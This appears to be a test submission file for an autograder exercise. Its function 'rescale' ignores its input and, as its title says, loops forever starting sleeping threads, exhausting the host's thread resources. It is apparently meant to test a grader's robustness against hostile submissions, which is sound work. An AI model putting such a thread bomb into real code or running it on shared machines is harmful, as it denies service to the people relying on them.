# title: a function that starts threads without end when a test calls it
# exercise: Exercise 3
# points: rescale-public=0, rescale-test=0
# peers: no

# %% rescale
import threading
import time


def rescale(values):
    threading.stack_size(32768)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
